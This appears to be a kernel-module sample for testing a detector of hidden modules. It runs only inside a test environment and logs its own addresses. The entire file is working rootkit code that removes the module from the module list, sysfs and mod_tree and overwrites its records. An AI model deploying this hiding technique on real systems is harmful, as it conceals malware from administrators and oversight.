// SPDX-License-Identifier: GPL-2.0
/* unlisted: a module that is no longer where modules are listed.  DEPTH says how far it goes:
 *
 *     1  off the list of modules; it stays in /sys/module
 *     2  off that too
 *     3  off the tree of module addresses as well; its links, state, section attributes and count of
 *        symbols are written over
 *
 * From a timer: while it is being loaded the kernel needs the list. */
#include "marks.h"

#include <linux/kobject.h>
#include <linux/rbtree_latch.h>
#include <linux/workqueue.h>

#ifndef DEPTH
#define DEPTH 1
#define KIND  "unlisted"
#endif

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("is not on the list of modules");

static void leave(struct work_struct *work);
static DECLARE_DELAYED_WORK(later, leave);

#if DEPTH > 2
/* The tree's root is the first member of mod_tree; it is erased without asking for the order. */
static void leave_tree(struct module *module)
{
    static const struct latch_tree_ops ops;
    struct latch_tree_root *root = (void *)look_up("mod_tree");

    if (!root)
        return;
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
    for_each_mod_mem_type(type) if (module->mem[type].size && module->mem[type].mtn.mod)
        latch_tree_erase(&module->mem[type].mtn.node, root, &ops);
#else
    latch_tree_erase(&module->core_layout.mtn.node, root, &ops);
#endif
}

static void write_over(struct module *module)
{
    module->list.prev = (void *)0x37373731;
    module->list.next = (void *)0x22373717;
    module->state = MODULE_STATE_UNFORMED;
    module->sect_attrs = NULL;
    rcu_dereference_raw(module->kallsyms)->num_symtab = 0;
}
#endif

static void leave(struct work_struct *work)
{
    list_del_init(&THIS_MODULE->list);
#if DEPTH > 1
    kobject_del(&THIS_MODULE->mkobj.kobj);
#endif
#if DEPTH > 2
    leave_tree(THIS_MODULE);
    write_over(THIS_MODULE);
#endif
    mark("\"" KIND "\",\"name\":\"%s\",\"module\":\"%lx\",\"function\":\"%lx\"", THIS_MODULE->name,
         (unsigned long)THIS_MODULE, (unsigned long)leave);
}

static int __init plant(void)
{
    if (!in_the_farm())
        return -EPERM;
    schedule_delayed_work(&later, HZ);
    return 0;
}

module_init(plant); /* and no exit: it stays */
